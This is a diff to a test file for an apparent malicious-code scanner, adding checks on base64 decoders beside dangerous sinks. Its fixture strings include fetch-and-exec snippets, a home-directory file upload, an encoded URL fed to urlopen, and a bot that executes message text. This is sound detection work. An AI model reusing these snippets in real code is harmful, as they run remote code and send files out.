@@ -163,7 +163,7 @@ def test_soup_bytes_mark_exactly_the_look_alike_letters() -> None:
     assert set("".join(classes)) == marked
 
 
-@pytest.mark.parametrize("word", RISKY_WORDS)
+@pytest.mark.parametrize("word", [*RISKY_WORDS, *python.DECODE_WORDS])
 def test_each_risky_word_makes_a_file_risky(word: str) -> None:
     """The one search for the risky words finds each of them, wherever it is."""
     assert quick_risky(f"{word}\nx = 1\n")
@@ -274,7 +274,7 @@ def _reference_risky(source: str) -> bool:
 
     ways_out = (*python._FETCH_WORDS, *python._CHAT_WORDS)
     return (
-        any(w in source for w in RISKY_WORDS)
+        any(w in source for w in (*RISKY_WORDS, *python.DECODE_WORDS))
         or any(bare(call) for call in python.RISKY_CALLS)
         or (any(w in source for w in ways_out) and python._runs_or_sends(source))
     )
@@ -304,6 +304,19 @@ def test_quick_risky_is_the_search_per_word_group(source: str) -> None:
     assert quick_risky(source) == _reference_risky(source)
 
 
+@pytest.mark.parametrize("word", python.DECODE_WORDS)
+def test_a_late_modules_decoder_counts_only_beside_a_place_its_bytes_do_harm(word: str) -> None:
+    """Past the budget a decoder alone is a library's (images, tokens): the module
+    is parsed for it only beside a process, an unpickler or foreign code; the
+    ``RISKY_*`` words count on their own there too."""
+    decoder = f"def image(data):\n    return base64.{word.rstrip('(')}(data)\n"
+    assert not quick_risky(decoder, late=True)
+    for sink in ("subprocess.run(x)", "pickle.loads(x)", "ctypes.CDLL(x)", "builtins.exec(x)"):
+        assert quick_risky(f"{decoder}def f(x):\n    {sink}\n", late=True), sink
+    assert quick_risky(f"{decoder}exec(x)\n", late=True)
+    assert quick_risky(f"{decoder}marshal.loads(x)\n", late=True)
+
+
 @pytest.mark.parametrize("hint", [h for _, hints in text._HINTS for h in hints])
 def test_each_hint_is_found_past_the_quick_look(hint: str) -> None:
     """The quick look before the hint search (one search for most hints, ``in`` for
@@ -326,7 +339,11 @@ def test_the_common_letter_hints_are_few_and_apart_from_the_search() -> None:
 def _reference_worth(source: str) -> bool:
     """``payloads.worth_reading`` without its one search in front."""
     run = payloads._any(source, payloads._RUN_WORDS)
-    return dropflow.worth_reading(source, run) or payloads._ends_named(source, run)
+    return (
+        dropflow.worth_reading(source, run)
+        or payloads.hides_address(source)
+        or payloads._ends_named(source, run)
+    )
 
 
 @pytest.mark.parametrize(
@@ -334,7 +351,8 @@ def _reference_worth(source: str) -> bool:
     [
         "import requests\nr = requests.get(u)\nsubprocess.run([r.text])\n",
         "from os import system as s\nimport tempfile\nf = tempfile.mkstemp()\n",
-        "d = base64.b64decode(x)\nurlopen(d)\n",
+        "d = base64.b64decode('aHR0cDovL2EuYi9j')\nurlopen(d)\n",
+        "run = exec\nimport requests\nr = requests.get(u)\nrun(r.text)\n",
         "import requests\nrequests.post(u, files={'f': open(os.path.expanduser('~/.x'))})\n",
         "data = bytes.fromhex(h)\nopen(p, 'wb').write(data)\nos.system(p)\n",
         "@bot.message_handler()\ndef h(m):\n    exec(m.text)\n",
